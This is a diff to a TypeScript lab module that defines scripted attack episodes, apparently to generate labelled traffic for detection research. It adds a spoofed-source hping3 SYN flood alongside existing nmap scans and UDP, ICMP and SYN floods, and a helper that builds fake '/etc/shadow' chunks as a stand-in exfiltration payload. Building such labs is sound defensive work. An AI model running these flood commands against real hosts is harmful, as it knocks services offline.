@@ -48,11 +48,13 @@ export interface Episode {
   timeoutS: number;
   /** Runs beside the following episodes instead of before them. */
   background?: boolean;
+  /** Spoofed sources: the episode's flows come from any address outside these networks (the lab's own, comma-separated). */
+  spoofedOutside?: string;
 }
 
 const base32 = (n: number) => Buffer.from(`chunk ${n} of /etc/shadow ${'x'.repeat(n % 13)}`).toString('hex');
 
-export function attackPlan(s: LabScale, h: Record<string, LabHost>, internalCidr: string): Episode[] {
+export function attackPlan(s: LabScale, h: Record<string, LabHost>, internalCidr: string, externalCidr: string): Episode[] {
   const victim = h.server!.addr;
   const sweep = internalCidr.replace(/\/\d+$/, `/${s.sweepPrefix}`);
   const ext = h.external!.addr;
@@ -66,6 +68,8 @@ export function attackPlan(s: LabScale, h: Record<string, LabHost>, internalCidr
     { episode: 'nmap-sU', attack: 'udpscan', from: 'attacker', victim, command: ['nmap', '-sU', '-T4', '-Pn', '-n', '--max-retries', '1', '-p', s.udpPorts, victim], timeoutS: 180 },
     { episode: 'nmap-sn', attack: 'sweep', from: 'attacker', victim: sweep, command: ['nmap', '-sn', '-T4', '-n', '--disable-arp-ping', sweep], timeoutS: 120 },
     { episode: 'hping-syn', attack: 'synflood', from: 'attacker', victim, command: ['hping3', '-q', '-S', '-p', '80', '-i', 'u400', '-c', String(s.floodPackets), victim], timeoutS: 120 },
+    // Every SYN from a random address: one packet per source, so only the victim's side sees a flood.
+    { episode: 'hping-spoofed', attack: 'spoofedflood', from: 'attacker', victim, spoofedOutside: `${internalCidr},${externalCidr}`, command: ['hping3', '-q', '-S', '-p', '80', '--rand-source', '-i', 'u400', '-c', String(s.floodPackets), victim], timeoutS: 120 },
     { episode: 'hping-udp', attack: 'udpflood', from: 'attacker', victim, command: ['hping3', '-q', '--udp', '-p', '53', '-d', '120', '-i', 'u400', '-c', String(s.floodPackets), victim], timeoutS: 120 },
     { episode: 'hping-icmp', attack: 'icmpflood', from: 'attacker', victim, command: ['hping3', '-q', '-1', '-i', 'u400', '-c', String(s.floodPackets), victim], timeoutS: 120 },
     // Probes no ordinary stack sends: FIN, NULL and XMAS (FIN+PSH+URG) segments and a lone
